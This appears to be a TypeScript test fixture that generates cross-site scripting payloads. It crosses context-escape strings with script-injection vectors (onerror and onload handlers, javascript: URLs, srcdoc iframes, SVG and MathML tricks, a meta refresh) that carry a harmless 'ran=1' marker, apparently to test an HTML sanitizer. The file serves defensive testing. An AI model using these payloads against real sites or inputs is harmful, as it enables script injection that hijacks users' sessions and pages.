// Texts that would run as a script where they were taken for markup: every way into one, with every
// way out of where a text stands.

/** What they would do: a page that has it afterwards was attacked. */
const CODE = 'ran=1'

/** Ways out of an attribute, an element, a comment, a script, a style. */
const OUT = [
  '',
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '"/>',
  '</p></div>',
  '\\">',
  '&quot;>',
  '%22%3E',
  '\u2028">',
  '{{',
  '${',
  '*/',
  '\u0000">',
] as const

/** Ways into a script. */
const IN = [
  `<script>${CODE}</script>`,
  `<ScRiPt >${CODE}</sCrIpT>`,
  `<script src=//127.0.0.1:9/x.js></script>`,
  `<img src=x onerror=${CODE}>`,
  `<img/src=x/onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<body onload=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<iframe src="javascript:parent.${CODE}">`,
  `<object data="data:text/html,<script>parent.${CODE}</script>">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="java\tscript:${CODE}" autofocus>x</a>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<math><mi xlink:href="javascript:${CODE}">x</mi></math>`,
  `<base href="//127.0.0.1:9/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>@import "//127.0.0.1:9/x.css";</style>`,
  `<x onpointerover=${CODE} style=position:fixed;inset:0>x`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
] as const

/** So many different ones, at most 500: for a few, some of every way. */
export function payloads(count: number): readonly string[] {
  const all = IN.flatMap((way) => OUT.map((out) => out + way))
  const step = all.length / Math.min(count, all.length)
  return Array.from(
    { length: Math.min(count, all.length) },
    (_, at) => all[Math.floor(at * step)] ?? '',
  )
}
